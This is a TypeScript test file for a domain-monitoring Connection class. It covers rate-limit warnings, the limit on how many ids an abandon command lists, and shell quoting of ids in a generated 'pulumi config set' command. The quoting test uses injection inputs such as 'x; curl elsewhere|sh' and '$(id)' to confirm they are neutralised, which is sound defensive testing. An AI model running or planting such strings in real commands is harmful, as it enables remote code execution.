/** Messages of a connection about its service, and about channels that are to be let go. */
import { startEmulator } from "../../packages/domain-monitoring-emulator/src";
import { Connection } from "../../src/provider/connection";

test("says once that a rate limit makes calls wait", async () => {
  await using service = await startEmulator({ domains: [{ domain: "example.com" }] });
  service.fault({ status: 429, times: 2, headers: { "Retry-After": "30" } });
  const warnings: string[] = [];
  const explicit = { baseUrl: service.url, apiToken: service.token, timeoutSeconds: 20 };
  const { client } = new Connection(explicit, (line) => warnings.push(line));

  // The deadline is too short to wait, so the test is over at once.
  for (let call = 1; call <= 2; call++)
    await expect(client.domains.get("one")).rejects.toThrow("It asks to wait 30 s");

  await client.close();
  expect(warnings).toEqual([
    expect.stringContaining("the service's rate limit is reached: waiting 30 s."),
  ]);
});

const idOf = (number: number) => `00000000-0000-4000-8000-${String(number).padStart(12, "0")}`;

test.each([
  ["x; curl elsewhere|sh", "'x; curl elsewhere|sh'"],
  ["it's $(id)", "'it'\\''s $(id)'"],
  ["half\nof it", "ID"],
])("writes an id as one word for a shell, whatever it is: %j", (id, word) => {
  const connection = new Connection(undefined, () => undefined);
  expect(connection.abandonCommand(id)).toBe(`pulumi config set domain-monitoring:abandon ${word}`);
});

test("names as many ids to let go as a message may have, the last ones", () => {
  const connection = new Connection(undefined, () => undefined);
  const commands = Array.from({ length: 60 }, (_, number) =>
    connection.abandonCommand(idOf(number)),
  );

  expect(commands[1]?.endsWith(` ${idOf(0)},${idOf(1)}`)).toBe(true);
  expect(commands[59]?.split(",")).toHaveLength(35);
  expect(commands[59]).toContain(idOf(59));
});
